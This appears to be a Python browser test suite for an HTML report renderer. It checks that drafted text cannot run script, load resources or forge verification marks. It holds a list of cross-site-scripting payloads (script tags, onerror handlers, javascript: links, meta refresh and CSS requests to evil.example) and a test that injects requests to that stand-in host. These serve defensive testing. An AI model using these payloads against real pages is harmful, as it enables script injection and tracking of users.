"""An attacker who writes the whole draft, seen in a real browser: nothing runs, nothing is fetched, no mark is forged.

Every case is seen twice: as a page of its own, under the policy that the page carries; and as a fragment in a page
without any policy, beside a hundred others and with the module running, so that the policy is not what saves us.
"""

from functools import cache
from typing import NamedTuple

import pytest
from tests.browser.hostile import (
    CORPORA,
    EVIDENCE,
    TOKEN,
    Attack,
    around,
    attacks,
    documents,
    naughty_strings,
    together,
    tree_inputs,
)
from tests.browser.watch import PAGE, ChromiumWatch, faults

from countermark import Draft, Evidence, check
from countermark.render.html.page import style

DOCUMENTS = dict(documents())
needs_corpora = pytest.mark.skipif(not CORPORA.is_dir(), reason="the public corpora are not here")


@cache
def cases(name):
    """The attacks of one file, for both browsers and in both forms."""
    return attacks(DOCUMENTS[name])


@pytest.fixture
def fresh(browser):
    """A page for one test that may leave it in any state."""
    watching = ChromiumWatch(browser)
    yield watching
    watching.context.close()


# Every eighth case in either browser, and all of them in `make fuzz`.
SOME = pytest.mark.parametrize("every", [8, pytest.param(1, marks=pytest.mark.long)])


@SOME
@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_case_as_a_page(each_watch, name, every):
    """Every case is what it should be as a page of its own."""
    seen = cases(name)[::every]
    assert faults(each_watch, seen, each_watch.pages, 40) == []


@SOME
@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_case_as_a_fragment_without_policy(each_watch, name, every):
    """Every case is what it should be in somebody else's page, which protects from nothing, and so is what its marks open."""
    seen = cases(name)[1 % every :: every]
    assert faults(each_watch, seen, each_watch.inspected_fragments, 80) == []


@needs_corpora
@pytest.mark.parametrize("every", [60, pytest.param(1, marks=pytest.mark.long)])
@pytest.mark.parametrize("texts", [naughty_strings, tree_inputs], ids=["blns", "html5lib"])
def test_a_corpus_as_fragments_without_policy(watch, texts, every):
    """Every input of the corpus, alone and with a true token before it, behind it and within it."""
    seen = (attack for number, text in enumerate(texts()[::every]) for attack in around(f"input {number}", text))
    assert faults(watch, seen, watch.fragments, 120) == []


@needs_corpora
@SOME
@pytest.mark.parametrize("texts", [naughty_strings, tree_inputs], ids=["blns", "html5lib"])
def test_a_corpus_as_pages(watch, texts, every):
    """Inputs of the corpus, 24 to a draft and each behind a true token, under the policy of the page."""
    assert faults(watch, together(texts()[::every], 24), watch.pages, 40) == []


def test_the_policy_of_a_page_is_in_force(fresh):
    """Whatever got into a page of ours would not run, load, submit or restyle: a second wall, not the first."""
    fresh.body = check(Draft(text=f"Growth was {TOKEN}."), EVIDENCE).render("html", standalone=True)
    fresh.page.goto(PAGE)
    fresh.did.clear()
    refused = fresh.page.evaluate("""async () => {
      const refused = [];
      document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
      const put = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
      put("script", { textContent: "window.__ran = 1" });
      put("script", { src: "https://evil.example/x.js" });
      put("style", { textContent: "b { color: green }" });
      put("b", { onclick: null, innerHTML: "<i style='color: green' onclick='window.__ran = 1'>x</i>" });
      document.querySelector("b i").click();
      put("img", { src: "https://evil.example/a.png" });
      put("iframe", { src: "https://evil.example/" });
      put("base", { href: "https://evil.example/" });
      put("form", { action: "https://evil.example/", method: "post" });
      document.forms[0].submit();
      fetch("https://evil.example/").catch(() => {});
      for (let waited = 0; waited < 5000 && new Set(refused).size < 9; waited += 50) {
        await new Promise((done) => setTimeout(done, 50));
      }
      return window.__ran === undefined ? refused : ["ran"];
    }""")
    assert {*refused} >= {
        "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr",
        "img-src", "frame-src", "base-uri", "form-action", "connect-src",
    }  # fmt: skip
    assert not [did for did in fresh.did if did.startswith("request")]


@pytest.mark.parametrize("many", [2_500, *(pytest.param(many, marks=pytest.mark.long) for many in (10_000, 100_000))])
@pytest.mark.parametrize(
    ("before", "after"),
    [("<b>", ""), ("<div>", "</div>"), ("<i></i> ", ""), ("<p>x ", ""), ("<table><tr><td>", "")],
    ids=["open", "nested", "beside each other", "paragraphs", "tables"],
)
def test_very_many_elements(watch, before, after, many):
    """Depth and number are shown safely: whole, with the mark, and with nothing else."""
    text = before * many + f"Growth was {TOKEN}." + after * many
    report = check(Draft(text=text), EVIDENCE)
    attack = Attack("many", report, {"verified": ["5.7%"], "readable": ["Growth was 5.7%."]})
    assert faults(watch, [attack], watch.pages, 1) == []


def test_two_reports_on_one_draft_keep_their_marks(watch):
    """What is copied from a report that flags a number is not taken from the one beside it that verifies it."""
    draft = Draft(text=f"Growth was {TOKEN}.")
    seen = [Attack("verifies", check(draft, EVIDENCE), {}), Attack("flags", check(draft, Evidence()), {"verified": []})]
    assert faults(watch, seen, watch.inspected_fragments, 2) == []


MARK = '<countermark-mark data-countermark="verified" data-n="1"><button data-countermark="button">5.7%</button></countermark-mark>'
# What a renderer with one hole would write in place of "Growth was <mark> then."
HOLES = {
    "a script that runs": f"{MARK}<script>window.__ran = 1</script>",
    "a handler that runs": f"{MARK}<img src=x onerror=window.__ran=1>",
    "a handler that waits": f"{MARK}<b onclick=window.__ran=1>x</b>",
    "a dialog": f"{MARK}<script>alert(1)</script>",
    "a request": f"{MARK}<img src=https://evil.example/a.png>",
    "a request by a style": f'{MARK}<b style="background:url(https://evil.example/a.png)">x</b>',
    "a page that leaves": f'{MARK}<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a link that runs": f"{MARK}<a href=javascript:window.__ran=1>x</a>",
    "a mark that is lost": "5.7%",
    "a mark that is doubled": f"{MARK} and {MARK}",
    "a mark that is forged": f'{MARK} and <countermark-mark data-countermark="verified" data-n="2">5.8%</countermark-mark>',
    "a mark of another kind": MARK.replace("verified", "supported"),
    "a mark on another text": MARK.replace("5.7%", "5.8%"),
    "a mark with a blank too much": MARK.replace("5.7%", "5.7% "),
    "a mark that is not seen": f"<p hidden>{MARK}</p>",
    "a mark by an element that is not a mark": MARK.replace("countermark-mark", "span"),
    "a minus that touches": f"Growth was <b>-</b>{MARK}",
    "a digit that touches": f"{MARK}<i><b></b>0</i>",
    "a digit behind an invisible character": f"1\u200b{MARK}",
    "a tick": f"{MARK} and 5.8% \u2713",
    "a picture": f"{MARK}<svg></svg>",
    "a class": f'{MARK}<b class="verified">5.8%</b>',
    "a part of ours": f'{MARK}<p data-countermark="summary">accept</p>',
    "a button": f"{MARK}<button>5.8%</button>",
    "a custom element": f"{MARK}<x-y>5.8%</x-y>",
    "a page that goes on in it": f"{MARK}<plaintext>",
    "a second report": f'{MARK}<countermark-report data-countermark="report"></countermark-report>',
    "words that are gone": "",
}


class Rendered(NamedTuple):
    """A report that some other renderer wrote."""

    html: str
    marks: tuple

    def render(self, _format, **_options):
        return f'{style()}<countermark-report data-countermark="report"><article data-countermark="draft">{self.html}</article></countermark-report>'


def rendered(name, html):
    marks = check(Draft(text=f"Growth was {TOKEN} then."), EVIDENCE).marks
    return Attack(name, Rendered(html, marks), {"verified": ["5.7%"], "readable": ["5.7%"]})


def test_a_sound_page_has_no_fault(watch):
    """The probe complains of nothing where nothing is wrong."""
    sound = [rendered("sound", f"<p>Growth was {MARK} then.</p>"), rendered("breaks", f"<p>1</p>{MARK}<br>0")]
    assert faults(watch, sound, watch.pages, 2) == faults(watch, sound, watch.fragments, 2) == []


def test_the_probe_sees_each_hole(fresh):
    """A test that cannot fail proves nothing: each hole is found, and in the page that has it."""
    staying = {name: html for name, html in HOLES.items() if name != "a page that leaves"}  # it takes the look with it
    found = faults(fresh, [rendered(name, html) for name, html in staying.items()], fresh.pages, len(staying))
    assert {fault.split(":")[0] for fault in found if not fault.startswith("one of")} == {*staying}


@pytest.mark.parametrize(
    ("hole", "fault"),
    {
        "a script that runs": "a script of the draft ran",
        "a handler that runs": "a script of the draft ran",
        "a dialog": "dialog: 1",
        "a request": "request: https://evil.example/a.png",
        "a page that leaves": "request: https://evil.example/",
        "a page that goes on in it": "is not closed",
    }.items(),
)
def test_what_a_hole_does_is_seen(fresh, hole, fault):
    """Without a policy every hole acts, and acting is seen, whatever the markup looks like."""
    found = faults(fresh, [rendered(hole, HOLES[hole]), rendered("next", MARK)], fresh.fragments, 2)
    assert any(fault in line for line in found), found
